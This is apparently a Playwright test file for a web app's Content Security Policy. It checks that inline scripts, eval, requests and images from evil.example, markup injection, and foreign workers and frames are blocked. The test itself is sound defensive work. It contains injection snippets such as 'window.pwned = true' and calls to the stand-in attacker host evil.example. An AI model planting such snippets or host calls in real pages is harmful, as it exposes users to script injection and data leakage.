import { expect, test, VIOLATION } from '../fixtures.ts';

test.use({ serviceWorkers: 'allow', expectedErrors: new RegExp(`^${VIOLATION}`) });

// The violations that normal use would cause fail every other browser test [RX-09].
test("[RX-06] [RX-07] [RX-08] [RX-09] [PU-15] inline scripts, eval, foreign hosts, markup from a string, foreign workers and frames are blocked, the app's own worker registers, and each violation is an error of the page", async ({
  app: { page, open },
  context,
  site,
}) => {
  const seen: string[] = [];
  context.on('weberror', (event) => seen.push(event.error().message));
  await context.route('http://frames.example/', (route) =>
    route.fulfill({
      contentType: 'text/html',
      body: `<iframe src="${site.webUrl}/login" width="800" height="600"></iframe>`,
    }),
  );
  await open('/login');
  const outcome = await page.evaluate(`(async () => {
  const script = document.createElement('script');
  let typed = 'accepted';
  try { script.text = 'window.pwned = true'; } catch { typed = 'refused'; }
  document.body.append(script);
  const inline = document.createElement('p');
  try { inline.setAttribute('onclick', 'window.pwned = true'); } catch {} // the assignment may be refused already
  document.body.append(inline);
  inline.click();
  // Runs in a later task of the page, because eval is allowed while DevTools evaluates.
  const evaluated = await new Promise((resolve) => setTimeout(() => {
    try { new Function('window.pwned = true')(); resolve('ran'); } catch { resolve('refused'); }
  }));
  const fetched = await fetch('https://evil.example/').then(() => 'sent', () => 'refused');
  const image = new Image();
  const loaded = await new Promise((resolve) => {
    image.onload = () => resolve('loaded');
    image.onerror = () => resolve('refused');
    image.src = 'https://evil.example/x.png';
  });
  return [typed, evaluated, fetched, loaded, String(window.pwned)];
})()`);
  expect(outcome).toEqual(['refused', 'refused', 'refused', 'refused', 'undefined']);
  for (const directive of ['connect-src https://evil.example/', 'img-src https://evil.example'])
    await expect
      .poll(() => seen.some((each) => each.startsWith(`${VIOLATION}${directive}`)))
      .toBe(true);
  const names = await page.evaluate(`(async () => {
  const tried = async (attempt) => {
    try { await attempt(); return 'done'; } catch (problem) { return problem.name; }
  };
  return [
    await tried(() => { document.body.innerHTML = '<img src=x>'; }),
    await tried(() => new Worker('https://evil.example/w.js')),
    await tried(() => trustedTypes.createPolicy('evil', { createHTML: (text) => text })),
    await tried(() => navigator.serviceWorker.register('https://evil.example/sw.js')),
    await tried(() => navigator.serviceWorker.register('/firebase-messaging-sw.js', { scope: '/' })),
  ];
})()`);
  expect(names).toEqual(['TypeError', 'TypeError', 'TypeError', 'TypeError', 'done']);
  await page.goto('http://frames.example/');
  await expect.poll(() => page.frames().at(-1)?.url()).toMatch(/^chrome-error:/);
  expect(await page.frames().at(-1)?.locator('body').innerText()).not.toContain('Welcome');
});
